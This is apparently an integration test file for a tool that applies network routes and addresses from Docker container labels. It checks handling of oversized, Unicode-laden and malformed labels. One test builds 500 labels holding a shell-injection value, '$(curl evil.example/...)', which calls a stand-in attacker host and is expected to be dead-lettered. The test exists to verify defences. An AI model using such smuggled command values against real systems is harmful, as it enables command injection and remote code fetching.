import { readFile } from "node:fs/promises";
import { describe, expect, it } from "vitest";
import { useIntegration } from "../harness/context.js";
import { startMany } from "../harness/containers.js";
import { startRunContainer } from "../harness/test-containers.js";
import { ipInNetnsOf } from "../harness/kernel.js";

const t = useIntegration();

async function residentMiB(pid: number | undefined): Promise<number> {
  const status = await readFile(`/proc/${pid ?? 0}/status`, "utf8");
  const kib = Number(/^VmRSS:\s+(\d+) kB$/m.exec(status)?.[1] ?? Number.NaN);
  return kib / 1024;
}

describe("poison input", () => {
  it("applies 200 parts, refuses a 100 KB label and odd Unicode clearly, and handles a 128-character name", async () => {
    const stack = t.stack();
    await stack.spawn("worker");
    await stack.spawn("watcher");
    const manyParts = Array.from({ length: 200 }, (_, i) => `add 10.252.${Math.floor(i / 200)}.${i + 1}/32 dev lo`).join(";");
    const longName = `p${"x".repeat(110)}${t.unique("n")}`.slice(0, 128);
    const specs: { name: string; labels: Record<string, string> }[] = [
      { name: t.unique("parts200"), labels: { "docker-events.address": manyParts } },
      { name: t.unique("huge"), labels: { "docker-events.route": `add 10.0.0.0/8 dev lo;${"x".repeat(100 * 1024)}` } },
      { name: t.unique("unicode"), labels: { "docker-events.route": "add 10.0.0.0/8 dev lo\u200b;add 10.1.0.0/16 via 1.2.3.4 dev éth0 😀" } },
      { name: longName, labels: { "docker-events.address": "add 192.0.2.128/32 dev lo" } },
    ];
    const [parts200, huge, unicode, long] = await Promise.all(specs.map((spec) => startRunContainer(t, spec)));
    if (parts200 === undefined || huge === undefined || unicode === undefined || long === undefined) throw new Error("containers missing");

    expect((await stack.finished(parts200)).returnValue).toMatchObject({ outcome: "configured", applied: 200 });
    expect((await ipInNetnsOf(parts200.pid, ["-4", "address", "show", "dev", "lo"])).match(/inet 10\.252\./g)).toHaveLength(200);

    const hugeEntry = await stack.deadLetterEntry(huge);
    expect(hugeEntry).toMatchObject({ permanent: true, attemptsMade: 1, label: "docker-events.route" });
    expect(hugeEntry.reason).toMatch(/label is \d+ characters; expected at most 16384/);
    expect(JSON.stringify(hugeEntry).length).toBeLessThan(4096); // the label itself is not copied in

    const unicodeEntry = await stack.deadLetterEntry(unicode);
    expect(unicodeEntry.problems?.[0]).toMatch(/U\+200B/);
    expect(unicodeEntry.problems?.join("\n")).toMatch(/U\+00E9|U\+1F600/);

    expect(long.name).toHaveLength(128);
    expect((await stack.finished(long)).returnValue).toMatchObject({ outcome: "configured", applied: 1 });
  });

  it("500 containers with broken labels at once: each dead-lettered with its reason, the good one beside them configured, memory bounded", async () => {
    const stack = t.stack({ env: { DEHANDLER_CONCURRENCY: "8" } });
    const worker = await stack.spawn("worker");
    await stack.spawn("watcher");
    const prefix = t.unique("broken");
    const broken = await startMany(
      t.docker,
      t.cleanup,
      500,
      (i) => ({
        name: `${prefix}-${i}`,
        image: t.image,
        labels: { ...t.runLabels, "docker-events.route": `add 10.${i % 250}.0.0/16 via $(curl evil.example/${i})` },
      }),
      10,
    );
    const good = await startRunContainer(t, {
      name: t.unique("good"),
      labels: { "docker-events.address": "add 192.0.2.250/32 dev lo" },
    });

    expect((await stack.finished(good, 60_000)).returnValue).toMatchObject({ outcome: "configured" });
    for (const container of broken) {
      const entry = await stack.deadLetterEntry(container, 60_000);
      expect(entry).toMatchObject({ permanent: true, attemptsMade: 1, partIndex: 0 });
    }
    expect(await stack.deadLetter.list()).toHaveLength(500);
    expect(await residentMiB(worker.pid)).toBeLessThan(250);
  }, 300_000); // 500 container starts alone take over a minute on two cores
});
